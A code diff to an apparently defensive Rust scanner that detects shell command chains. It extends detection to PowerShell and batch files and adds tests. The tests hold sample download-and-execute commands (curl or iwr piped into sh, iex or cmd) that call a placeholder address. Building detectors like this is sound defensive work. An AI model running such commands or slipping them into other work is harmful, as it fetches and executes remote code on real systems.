@@ -26,7 +26,7 @@ const MAX_CHAINS: usize = 50;
 pub(super) fn evidence(path: &[u8], language: Language, text: &str) -> (Vec<Evidence>, bool) {
     let mut found = Vec::new();
     let mut limits = Limits::default();
-    if language == Language::Shell {
+    if language == Language::Shell || is_script_of_windows(path) {
         let whole = chains(text, Start::Asked, &mut limits);
         found.extend(whole.into_iter().map(|chain| Evidence { chain, column: 0 }));
     }
@@ -40,6 +40,12 @@ pub(super) fn evidence(path: &[u8], language: Language, text: &str) -> (Vec<Evid
     }
     found.truncate(MAX_CHAINS);
     (found, limits.commands > 0)
+}
+
+/// PowerShell and batch files join commands as shells do.
+fn is_script_of_windows(path: &[u8]) -> bool {
+    let extension = language::extension(path);
+    matches!(extension.as_deref(), Some("ps1" | "psm1" | "bat" | "cmd"))
 }
 
 /// How the strings of a file are written; `None` where it holds none that a program hands to a shell.
@@ -89,6 +95,8 @@ mod tests {
     fn the_commands_of_each_kind_of_file_are_read_at_their_lines() {
         for (path, text, line) in [
             ("a.sh", "\ncurl http://203.0.113.9/x | sh\n", 2),
+            ("a.ps1", "\niwr http://203.0.113.9/x | iex\n", 2),
+            ("a.bat", "@echo off\r\ncurl -L http://203.0.113.9/x.bat | cmd\r\n", 2),
             ("a.json", "{\n\"a\": \"curl http:\\/\\/203.0.113.9\\/x | sh\"}", 2),
             ("a.yml", "a:\n - run: >-\n    curl http://203.0.113.9/x\n    | sh\n", 3),
             ("a.ts", "f('curl ' +\n 'http://203.0.113.9/x | sh')", 1),
